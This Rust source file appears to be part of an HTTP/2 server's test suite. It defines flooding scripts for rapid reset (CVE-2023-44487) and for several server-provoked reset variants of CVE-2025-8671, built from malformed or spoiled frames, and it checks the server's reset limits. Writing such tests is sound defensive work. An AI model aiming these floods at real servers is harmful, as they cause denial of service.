//! Streams that end before their time: rapid reset, and resets provoked from the server.

use rzero_e2e::api::peers::v1::SayRequest;
use rzero_http2::frame::StreamId;

use super::{Attack, Script, flood};
use crate::craft::{self, Streams, kind};

const LIMITS: &str = "http2.limits.resets";

pub(super) const TABLE: &[Attack] = &[
    Attack {
        name: "rapid-reset",
        reference: "CVE-2023-44487",
        what: "whole calls whose handlers take a second, each cancelled at once",
        limits: LIMITS,
        script: || over_and_over(true, craft::cancel),
        ..Attack::BASE
    },
    Attack {
        name: "rapid-reset-unsent",
        reference: "CVE-2023-44487",
        what: "heads of calls without a message, each cancelled at once",
        limits: LIMITS,
        script: || {
            let (block, mut streams) = (craft::request(craft::SAY, &[]), Streams::default());
            flood(&[], move |out, _| {
                let stream = streams.open();
                craft::headers(out, stream, &block, false);
                craft::cancel(out, stream);
            })
        },
        ..Attack::BASE
    },
    Attack {
        name: "made-reset-window-zero",
        reference: "CVE-2025-8671",
        what: "calls, each followed by a WINDOW_UPDATE of 0 on its stream",
        limits: LIMITS,
        script: || {
            over_and_over(true, |out, stream| {
                craft::window_update(out, Some(stream), 0)
            })
        },
        ..Attack::BASE
    },
    Attack {
        name: "made-reset-window-overflow",
        reference: "CVE-2025-8671",
        what: "calls, each followed by a WINDOW_UPDATE that overflows the window of its stream",
        limits: LIMITS,
        script: || {
            over_and_over(true, |out, stream| {
                craft::window_update(out, Some(stream), (1 << 31) - 1);
            })
        },
        ..Attack::BASE
    },
    Attack {
        name: "made-reset-self-dependency",
        reference: "CVE-2025-8671",
        what: "calls, each followed by a PRIORITY that makes its stream depend on itself",
        limits: LIMITS,
        script: || {
            over_and_over(true, |out, stream| {
                craft::priority(out, stream, Some(stream))
            })
        },
        ..Attack::BASE
    },
    Attack {
        name: "made-reset-priority-length",
        reference: "CVE-2025-8671",
        what: "calls, each followed by a PRIORITY of four bytes",
        limits: LIMITS,
        script: || {
            over_and_over(true, |out, stream| {
                craft::raw(out, kind::PRIORITY, 0, Some(stream), &[0; 4]);
            })
        },
        ..Attack::BASE
    },
    Attack {
        name: "made-reset-half-closed",
        reference: "CVE-2025-8671",
        what: "calls, each followed by DATA behind the end of its stream",
        limits: LIMITS,
        script: || over_and_over(true, |out, stream| craft::data(out, stream, b"late", false)),
        ..Attack::BASE
    },
    Attack {
        name: "made-reset-second-head",
        reference: "CVE-2025-8671",
        what: "calls, each with a second HEADERS that does not end its stream",
        limits: LIMITS,
        script: || {
            let trailers = craft::block(&[("x", "y")]);
            over_and_over(false, move |out, stream| {
                craft::headers(out, stream, &trailers, false);
            })
        },
        ..Attack::BASE
    },
    Attack {
        name: "made-reset-content-length",
        reference: "CVE-2025-8671",
        what: "calls that send more than their content-length",
        limits: LIMITS,
        script: || {
            let block = craft::request(craft::SAY, &[("content-length", "3")]);
            let (message, mut streams) = (slow_call(), Streams::default());
            flood(&[], move |out, _| {
                craft::call(out, streams.open(), &block, &message)
            })
        },
        ..Attack::BASE
    },
    Attack {
        name: "made-reset-malformed",
        reference: "CVE-2025-8671",
        what: "requests with a field that HTTP/2 forbids",
        limits: LIMITS,
        script: || {
            let block = craft::request(craft::SAY, &[("connection", "close")]);
            let (message, mut streams) = (slow_call(), Streams::default());
            flood(&[], move |out, _| {
                craft::call(out, streams.open(), &block, &message)
            })
        },
        ..Attack::BASE
    },
];

/// A call that stays in its handler for a second.
fn slow_call() -> Vec<u8> {
    craft::message(&SayRequest {
        delay_ms: 1000,
        ..Default::default()
    })
}

/// Calls whose streams are ended early by what `spoil` appends; `whole`: with their message and
/// their end, so that a handler runs.
fn over_and_over(
    whole: bool,
    mut spoil: impl FnMut(&mut Vec<u8>, StreamId) + Send + 'static,
) -> Script {
    let block = craft::request(craft::SAY, &[]);
    let (message, mut streams) = (slow_call(), Streams::default());
    flood(&[], move |out, _| {
        let stream = streams.open();
        craft::headers(out, stream, &block, false);
        if whole {
            craft::data(out, stream, &message, true);
        }
        spoil(out, stream);
    })
}
